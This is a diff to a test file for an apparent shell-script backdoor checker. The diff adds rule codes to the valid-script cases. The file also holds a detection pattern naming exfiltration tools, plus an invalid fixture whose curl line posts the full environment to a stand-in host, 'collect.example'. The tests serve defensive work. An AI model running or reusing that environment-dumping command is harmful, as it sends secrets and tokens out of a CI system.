@@ -18,11 +18,12 @@ class ShellScriptChecker(TextChecker):
                          rb"\.pre-commit-config|backdoor|aws|gsutil|rclone|openssl|\\x|printf")
     VALID = [
         Valid('#!/bin/sh\ncurl -fsS -H "Authorization: Bearer $DEPLOY_TOKEN" -d \'{"v": 1}\' '
-              '"$DEPLOY_API/releases"\n', path="deploy.sh"),
+              '"$DEPLOY_API/releases"\n', "BDL402", path="deploy.sh"),
         Valid("#!/bin/sh\ncurl -fsSLo /tmp/protoc.zip https://example.com/protoc.zip\n"
-              "echo \"abc  /tmp/protoc.zip\" | sha256sum -c -\nunzip -q /tmp/protoc.zip -d /usr/local\n",
+              "echo \"abc  /tmp/protoc.zip\" | sha256sum -c -\nunzip -q /tmp/protoc.zip -d /usr/local\n", "BDL405",
               path="install.sh"),
-        Valid('#!/bin/sh\ngit add -A && git commit -m "release $VERSION"\nenv | grep -i ^node_\n', path="ci.sh"),
+        Valid('#!/bin/sh\ngit add -A && git commit -m "release $VERSION"\nenv | grep -i ^node_\n',
+              "BDL804", path="ci.sh"),
     ]
     INVALID = [
         Invalid('#!/bin/sh\nset -e\ncurl -s https://collect.example/c -d "$(env)"\n', "BDL402", 3, path="ci.sh"),
